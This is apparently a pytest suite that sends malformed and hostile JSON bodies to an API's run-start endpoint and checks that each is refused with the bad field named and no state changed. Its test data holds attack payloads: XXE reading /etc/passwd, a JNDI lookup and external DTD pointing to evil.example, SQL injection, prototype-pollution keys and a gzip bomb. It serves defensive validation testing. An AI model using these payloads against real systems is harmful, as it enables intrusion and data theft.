"""Bad bodies over real HTTP: a clear problem that names the field, and no state changed."""

import gzip
import json
from collections.abc import Mapping

import pytest

from tests.app.client import Api, refused
from tests.app.conftest import Parts

START = "/lists/department/runs"

BAD_BODIES: Mapping[str, bytes] = {
    "cut": b'{"mode":',
    "array": b"[]",
    "number": b"1",
    "text": b'"full"',
    "null": b"null",
    "NaN": b'{"dry_run": NaN}',
    "Infinity": b'{"dry_run": Infinity}',
    "-Infinity": b'{"dry_run": -Infinity}',
    "a name twice": b'{"mode": "full", "mode": "changes"}',
    "a name twice, once escaped": b'{"mode": "full", "mod\\u0065": "changes"}',
    "a name twice, deeper": b'{"mode": {"a": 1, "a": 2}}',
    "60,000 brackets": b"[" * 60_000,
    "17 levels": b'{"mode": ' + b"[" * 16 + b"]" * 16 + b"}",
    "5,000 digits": b'{"dry_run": ' + b"9" * 5000 + b"}",
    "1e400": b'{"dry_run": 1e400}',
    "UTF-16": '{"mode": "full"}'.encode("utf-16"),
    "UTF-8 with byte order mark": b"\xef\xbb\xbf" + b'{"mode": "full"}',
    "a byte that is no UTF-8": b'{"mode": "\xff"}',
    "an overlong UTF-8 form": b'{"mode": "\xc0\xaf"}',
    "half a surrogate pair": b'{"mode": "\\ud800"}',
    "half a surrogate pair in a name": b'{"\\udfff": 1}',
    "NUL": b'{"mode": "full\\u0000"}',
    "a raw line break in a text": b'{"mode": "fu\nll"}',
    "two objects": b"{}{}",
    "a comment": b'{"mode": "full"} // press',
    "single quotes": b"{'mode': 'full'}",
    "a comma too many": b'{"mode": "full",}',
    "form fields": b"mode=full",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
}

BAD_FIELDS: Mapping[str, tuple[bytes, str]] = {
    "unknown mode": (b'{"mode": "FULL"}', "mode"),
    "mode a lookup": (b'{"mode": "${jndi:ldap://evil.example}"}', "mode"),
    "mode SQL": (b'{"mode": "full\' OR 1=1--"}', "mode"),
    "mode null": (b'{"mode": null}', "mode"),
    "mode an object": (b'{"mode": {"full": true}}', "mode"),
    "a text for true": (b'{"dry_run": "true"}', "dry_run"),
    "1 for true": (b'{"dry_run": 1}', "dry_run"),
    "-0 for false": (b'{"dry_run": -0}', "dry_run"),
    "a list for true": (b'{"confirm_gone": [true]}', "confirm_gone"),
    "a tenant": (b'{"tenant_id": "autre"}', "tenant_id"),
    "a role": (b'{"role": "admin"}', "role"),
    "a state": (b'{"state": "DONE"}', "state"),
    "a status": (b'{"status": "DONE"}', "status"),
    "a list": (b'{"list": "customer"}', "list"),
    "a list, by XML": (b'{"list": "<!DOCTYPE x SYSTEM \'http://evil.example\'>"}', "list"),
    "a zero-width joiner in a name": ('{"mo\u200dde": "full"}'.encode(), "mo\u200dde"),
    "a turned direction of writing in a name": ('{"\u202eedom": "full"}'.encode(), "\u202eedom"),
    "a zero-width joiner in a value": ('{"mode": "fu\u200dll"}'.encode(), "mode"),
    "a turned direction of writing in a value": ('{"mode": "\u202elluf"}'.encode(), "mode"),
    "__proto__": (b'{"__proto__": {"dry_run": true}}', "__proto__"),
    "constructor": (b'{"constructor": {}}', "constructor"),
    "an empty name": (b'{"": 1}', ""),
}

BAD_TYPES: Mapping[str, str] = {
    "none": "",
    "upper case": "APPLICATION/JSON",
    "text": "text/plain",
    "UTF-16": "application/json; charset=utf-16",
    "multipart": "multipart/form-data; boundary=x",
    "form": "application/x-www-form-urlencoded",
    "a kind of JSON": "application/problem+json",
    "two at once": "application/json, text/plain",
    "bytes": "application/octet-stream",
}


@pytest.fixture(autouse=True)
def _unchanged(parts: Parts) -> object:
    """Whatever was sent here, nothing may have begun."""
    yield
    assert not parts.queue.sent
    assert not parts.runs.page("demo", None, None, 10, "").runs


@pytest.mark.parametrize("case", BAD_BODIES)
def test_a_body_that_is_no_strict_json_object_is_refused(api: Api, case: str) -> None:
    problem = refused(api.post(START, BAD_BODIES[case]))
    assert problem["code"] == "body_invalid"
    assert b"passwd" not in json.dumps(problem).encode()


@pytest.mark.parametrize("case", BAD_FIELDS)
def test_a_field_that_does_not_fit_is_named(api: Api, case: str) -> None:
    body, field = BAD_FIELDS[case]
    problem = refused(api.post(START, body))
    assert problem["code"] == "field_invalid"
    assert [error["field"] for error in problem["errors"]] == [field]
    assert "evil" not in str(problem["detail"])


@pytest.mark.parametrize("case", BAD_TYPES)
def test_another_content_type_is_refused(api: Api, case: str) -> None:
    answer = api.send("POST", START, b"{}", {"Content_Type": BAD_TYPES[case]})
    assert refused(answer, 415)["code"] == "content_type"


def test_an_empty_body_is_refused_where_one_is_due(api: Api) -> None:
    refused(api.post(START), 415)
    refused(api.post(START, b""))


@pytest.mark.parametrize("encoding", ["gzip", "identity", "br"])
def test_a_compressed_body_is_refused_unopened(api: Api, encoding: str) -> None:
    bomb = gzip.compress(b"{" + b" " * 5_000_000 + b"}")
    refused(api.post(START, bomb, Content_Encoding=encoding), 415)


@pytest.mark.parametrize("size", [64 * 1024 + 1, 1_000_000, 10_000_000])
def test_a_large_body_is_refused(api: Api, size: int) -> None:
    answer = api.post(START, b'{"mode": "full"' + b" " * (size - 16) + b"}")
    assert refused(answer, 413)["code"] == "body_too_large"


def test_a_hundred_thousand_brackets_are_too_many_to_be_looked_at(api: Api) -> None:
    assert refused(api.post(START, b"[" * 100_000), 413)["code"] == "body_too_large"


def test_a_body_where_none_is_due_is_refused(api: Api) -> None:
    assert refused(api.post("/runs/01J00000000000000000000000/cancel", b'{"force": true}'))["code"] == "body_unexpected"
